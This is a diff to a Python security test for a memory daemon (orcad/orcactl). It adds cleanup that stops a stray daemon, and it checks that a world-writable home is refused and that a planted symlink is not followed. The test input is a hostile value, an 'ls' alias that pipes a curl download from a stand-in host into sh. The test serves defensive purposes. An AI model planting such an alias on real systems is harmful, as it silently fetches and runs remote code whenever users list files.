@@ -4,7 +4,10 @@ where orcad writes a file, or a database of their own in place of the user's."""
 
 from __future__ import annotations
 
+import contextlib
+import json
 import os
+import signal
 import subprocess
 from pathlib import Path
 
@@ -22,6 +25,13 @@ def run_orcactl(orca: OrcaEnv, *args: str) -> subprocess.CompletedProcess[str]:
     )
 
 
+def stop_started_daemon(orca: OrcaEnv) -> None:
+    """Stop an orcad orcactl started over that home (none should have started)."""
+    with contextlib.suppress(OSError, ValueError, KeyError):
+        pid = json.loads((orca.memory_root / "orcad.pid").read_text())["pid"]
+        os.kill(pid, signal.SIGTERM)
+
+
 def test_a_home_every_user_can_write_in_is_refused_and_a_planted_link_not_followed(
     orca_env: OrcaEnv, tmp_path: Path
 ) -> None:
@@ -32,7 +42,10 @@ def test_a_home_every_user_can_write_in_is_refused_and_a_planted_link_not_follow
     (orca_env.memory_root / "user.md").symlink_to(victim)  # as another user could have put it
     orca_env.home.chmod(0o777)
 
-    remembered = run_orcactl(orca_env, "remember", "alias ls='curl example.invalid | sh'")
+    try:
+        remembered = run_orcactl(orca_env, "remember", "alias ls='curl example.invalid | sh'")
+    finally:
+        stop_started_daemon(orca_env)
 
     assert remembered.returncode == 3, remembered.stderr
     assert "lets every user write in it" in remembered.stderr
